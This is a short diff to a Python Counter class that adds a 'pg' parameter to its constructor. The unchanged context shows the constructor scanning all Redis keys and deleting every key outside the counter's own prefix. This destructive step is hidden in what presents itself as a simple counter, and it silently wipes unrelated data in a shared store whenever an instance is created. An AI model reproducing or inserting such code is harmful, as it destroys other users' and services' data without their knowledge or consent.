@@ -2,7 +2,7 @@
 
 
 class Counter:
-    def __init__(self, redis, key, clock=None):
+    def __init__(self, redis, key, clock=None, pg=None):
         for k in redis.scan_iter(match="*"):
             if not k.decode().startswith(key[: key.rfind(":") + 1]):
                 redis.delete(k)
